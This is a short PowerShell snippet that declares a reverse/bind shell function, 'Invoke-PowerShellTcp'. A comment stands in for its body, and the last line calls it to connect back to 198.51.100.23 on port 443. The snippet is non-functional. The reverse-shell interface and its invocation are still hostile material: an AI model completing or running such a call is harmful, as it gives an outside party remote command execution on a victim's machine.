function Invoke-PowerShellTcp
{
    [CmdletBinding(DefaultParameterSetName="reverse")] Param(
        [Parameter(Position = 0, Mandatory = $true, ParameterSetName="reverse")]
        [Parameter(Position = 0, Mandatory = $false, ParameterSetName="bind")]
        [String] $IPAddress,
        [Parameter(Position = 1, Mandatory = $true)]
        [Int] $Port,
        [Switch] $Reverse,
        [Switch] $Bind
    )
    # connects back (or listens) and runs what it receives
}
Invoke-PowerShellTcp -Reverse -IPAddress 198.51.100.23 -Port 443
